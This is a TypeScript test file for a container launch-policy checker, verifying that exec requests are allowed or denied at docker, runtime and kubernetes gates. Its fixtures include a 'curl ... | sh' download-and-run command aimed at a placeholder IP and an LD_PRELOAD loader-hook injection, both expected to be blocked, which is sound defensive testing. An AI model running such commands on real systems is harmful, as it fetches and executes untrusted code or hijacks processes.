import { describe, expect, it } from 'vitest';
import type { LaunchPolicySpec } from '../../../src/policy/index.ts';
import { allCapabilities } from '../../fakes/oci-configs.ts';
import { type ExecCase, openGates } from './ask-gates.ts';

const gatesBy = (spec: LaunchPolicySpec) =>
  openGates([{ apiVersion: 'portwarden/v1', kind: 'LaunchPolicy', metadata: { name: 'test' }, spec }], []);
const download = 'curl -s http://198.51.100.7/x | sh';
const none = 'kubectl exec takes a command alone';

/** What is asked, the policy, what is told, and why a cluster cannot be asked for it. */
const cases: readonly (readonly [name: string, LaunchPolicySpec, ExecCase, told: string, noPod?: string])[] = [
  ['a command', {}, { command: ['ls', '/app'] }, 'allow'],
  ['a command, where none may be started', { exec: 'refuse' }, { command: ['ls'] }, 'deny launch/exec'],
  ['a download that is run', {}, { command: ['sh', '-c', download] }, 'deny input/download-and-run'],
  ['the same, where all may be started', { exec: 'allow' }, { command: ['sh', '-c', download] }, 'allow'],
  [
    'privileged',
    {},
    {
      command: ['ls'],
      docker: { Privileged: true },
      process: { capabilities: { bounding: allCapabilities, effective: allCapabilities } },
    },
    'deny launch/privileged',
    none,
  ],
  [
    'root',
    { user: { root: 'refuse' } },
    { command: ['ls'], docker: { User: '0' }, process: { user: { uid: 0, gid: 0 } } },
    'deny launch/user',
    none,
  ],
  [
    'a library that is loaded before all others',
    {},
    { command: ['ls'], docker: { Env: ['LD_PRELOAD=/tmp/x.so'] }, process: { env: ['LD_PRELOAD=/tmp/x.so'] } },
    'deny input/loader-hook',
    none,
  ],
];

describe.each(cases.map((each) => [each[0], each] as const))('a process in a container that runs: %s', (_, each) => {
  const [, spec, asked, told, noPod] = each;
  it.each(['docker', 'runtime', ...(noPod === undefined ? (['kubernetes'] as const) : [])] as const)(
    'at the %s gate',
    async (gate) => {
      const answer = await gatesBy(spec).exec(asked, gate);
      const why = JSON.stringify([answer.verdict.cause, answer.verdict.findings.map(({ rule, path }) => [rule, path])]);
      expect([answer.told, answer.isLetThrough], why).toEqual([told, told === 'allow']);
    },
  );
});
